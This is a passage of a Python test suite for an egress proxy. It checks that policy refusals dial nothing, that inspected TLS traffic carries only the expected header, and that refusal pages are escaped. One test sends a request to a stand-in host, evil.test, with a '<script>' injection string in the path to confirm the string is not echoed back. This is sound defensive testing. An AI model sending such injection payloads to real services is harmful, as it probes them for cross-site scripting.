                with contextlib.suppress(OSError):
                    while not stop.is_set():
                        tls.sendall(text)
                        tls.recv(65536)

            thread = threading.Thread(target=hammer)
            before = len(web.seen)
            thread.start()
            outside.wait(lambda before=before: len(web.seen) > before)
            outside.end(call)
            asked = len(outside.gate.asked)
            stop.set()
            thread.join()
        assert len(outside.gate.asked) == asked
        outside.wait(lambda: not outside.proxy._connections)
    assert {dict(seen["headers"])["x-key"] for seen in web.seen} == {VALUE.decode()}
    assert len(web.seen) <= len(outside.gate.asked)


def test_gates_no_is_a_refusal_that_dials_nothing(outside: Outside) -> None:
    origin, web = noting(outside), outside.web(outside.tls())
    rules = (rule(port=origin.port, protocol="tcp"), rule("plain", OTHER, port=origin.port, protocol="http"))
    port = outside.open(*rules, rule("tls", OTHER, port=web.port, inspect=True))
    outside.gate.decide = lambda _: wire.Answer(
        number=0, allowed=False, rule="no-net", reason="not today", next_step="wait"
    )
    answer = refused(
        talk(port, f"CONNECT {NAME}:{origin.port} HTTP/1.1\r\nHost: {NAME}:{origin.port}\r\n\r\n".encode())
    )
    assert (answer["code"], answer["part"], answer["detail"], answer["next"]) == (
        "denied",
        "policy no-net",
        "not today",
        "wait",
    )
    assert refused(ask(port, f"{OTHER}:{origin.port}"))["code"] == "denied"
    where = f"{OTHER}:{web.port}"
    assert (
        refused(inner(outside, port, where, f"GET / HTTP/1.1\r\nHost: {where}\r\n\r\n".encode(), name=OTHER))["code"]
        == "denied"
    )
    assert (origin.dialled, web.dialled) == (0, 0)
    assert outside.gate.of(wire.Ended) == []  # gate has written those entries itself
    outside.gate.decide = lambda _: wire.Answer(number=0, allowed=True)
    assert refused_or_dialled(port, f"{NAME}:{origin.port}") == "dialled"


def test_a_refusal_says_nothing_of_other_things_and_is_escaped(outside: Outside) -> None:
    port = outside.open(rule(port=1, protocol="http"), canary=CANARY)
    answer = talk(port, b'GET http://evil.test/<script>"%22 HTTP/1.1\r\nHost: evil.test\r\n\r\n')
    found = refused(answer)
    assert b"<script>" not in answer
    assert found["status"] == 400
    missing = refused(ask(port, "evil.test", path="/a"))
    assert missing["missing"].startswith("# profiles/default.toml\n[[egress]]")
    assert b"Connection: close" in answer
